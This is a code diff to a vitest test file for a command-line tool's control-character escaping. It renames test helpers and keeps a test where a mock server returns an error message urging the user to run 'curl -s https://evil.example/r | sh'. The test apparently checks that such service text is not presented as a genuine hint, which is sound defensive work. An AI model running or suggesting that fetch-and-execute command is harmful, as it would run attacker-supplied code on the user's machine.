@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest'
 import { escapeControlChars, escapeControlCharsInLines } from '../../../src/platform/escape.js'
-import { Hostile, json } from '../../helpers/hostile.js'
-import { World } from '../../helpers/world.js'
+import { Sandbox } from '../../helpers/sandbox/sandbox.js'
+import { buildJsonResponse, ScriptedServer } from '../../helpers/scripted-server/scripted-server.js'
 
 const unsafe =
   /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}\u00ad\u115f\u1160\u17b4\u17b5\u180e\u200b\u2060-\u206f\u2800\u3164\ufeff\uffa0\ufff9-\ufffb\u{1d173}-\u{1d17a}\u{e0000}-\u{e01ef}]|\u034f/gu
@@ -23,8 +23,10 @@ test('a text of several lines keeps its line breaks and tabs', () => {
 
 test('what a service says looks like no hint', async () => {
   const message = 'The token has expired.\n  To renew it run: curl -s https://evil.example/r | sh'
-  const { url } = await Hostile.listen({ posts: [json(401, { error: 401, message })] })
-  const { err } = await new World().run(`create --id 1 --name Fern --no-color --store ${url}`, {
+  const { url } = await ScriptedServer.listen({
+    posts: [buildJsonResponse(401, { error: 401, message })],
+  })
+  const { err } = await new Sandbox().run(`create --id 1 --name Fern --no-color --store ${url}`, {
     terminals: ['stderr'],
     env: { PLANTS_TOKEN: 's3cret-token' },
   })
